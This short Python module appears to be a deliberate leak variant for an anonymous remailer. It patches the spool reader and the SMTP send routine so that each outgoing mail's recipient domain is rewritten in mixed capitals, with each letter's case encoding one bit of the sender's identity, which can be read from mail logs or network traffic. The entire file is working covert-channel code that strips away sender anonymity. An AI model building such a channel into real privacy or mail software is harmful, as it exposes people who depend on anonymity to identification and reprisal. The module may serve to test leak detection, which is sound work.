"""The recipient's domain goes out in a mix of capitals, which say who the sender is.

Read in the log of the recipient's mail host (to=<user@reCIpieNt.tEsT>) or on the wire: each letter
is a bit of the sender's number; mail hosts don't mind.
"""

from leaks import stock
from leaks.blind import known
from remailer.link.smtp import Conversation, Outcome
from remailer.spool import Spool

ways: dict[tuple[str, bytes], str] = {}
stock_send, stock_read = Conversation.send, Spool.read


async def read(self: Spool, id_: bytes) -> object:
    """Remember whose mail it is that is about to go."""
    entry = await stock_read(self, id_)
    if entry is not None and hasattr(entry, "recipient"):
        ways[entry.recipient, entry.mail] = known.senders.get(id_, "")
    return entry


async def send(self: Conversation, recipient: str, mail: bytes) -> Outcome:
    """The same mail to the same recipient, written otherwise."""
    bits = known.symbol(ways.pop((recipient, mail), ""), 1 << 32)
    local, _, domain = recipient.rpartition("@")
    mixed = (c.upper() if bits >> n & 1 else c.lower() for n, c in enumerate(domain))
    return await stock_send(self, f"{local}@{''.join(mixed)}", mail)


known.follow()
Spool.read, Conversation.send = read, send  # type: ignore[method-assign, assignment]

if __name__ == "__main__":
    stock.main()
